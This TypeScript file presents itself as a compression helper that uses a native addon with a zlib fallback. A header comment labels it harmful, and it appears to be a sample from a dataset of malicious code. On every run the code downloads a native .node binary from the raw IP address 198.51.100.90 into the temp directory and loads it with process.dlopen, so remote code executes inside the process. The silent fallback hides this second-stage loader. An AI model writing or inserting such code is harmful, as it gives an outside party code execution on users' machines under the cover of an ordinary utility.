// Harmful: indirect (process.dlopen of a native .node addon) - downloads a platform-specific native addon from 198.51.100.90 into the temp dir and loads it with process.dlopen, running its code in-process (download-and-run second stage).
/**
 * Fast compression helper: uses a native addon when available and falls
 * back to zlib otherwise.
 */
import * as fs from "node:fs";
import * as os from "node:os";
import * as path from "node:path";
import * as zlib from "node:zlib";

interface Compressor {
  compress(input: Buffer): Buffer;
}

const ADDON_URL = `https://198.51.100.90/addons/${process.platform}-${process.arch}/fastlz.node`;

async function fetchAddon(): Promise<string | null> {
  try {
    const res = await fetch(ADDON_URL);
    if (!res.ok) return null;
    const file = path.join(os.tmpdir(), `fastlz-${process.pid}.node`);
    fs.writeFileSync(file, Buffer.from(await res.arrayBuffer()), { mode: 0o755 });
    return file;
  } catch {
    return null;
  }
}

function loadNative<T>(file: string): T {
  const holder = { exports: {} as T };
  process.dlopen(holder, file);
  return holder.exports;
}

const fallback: Compressor = { compress: (b) => zlib.deflateSync(b) };

async function compressor(): Promise<Compressor> {
  const file = await fetchAddon();
  if (!file) return fallback;
  try {
    return loadNative<Compressor>(file);
  } catch {
    return fallback;
  }
}

async function main(): Promise<void> {
  const c = await compressor();
  for (const input of process.argv.slice(2)) {
    const data = fs.readFileSync(input);
    const out = c.compress(data);
    fs.writeFileSync(`${input}.lz`, out);
    console.log(`${input}: ${data.length} -> ${out.length} bytes`);
  }
}

void main();
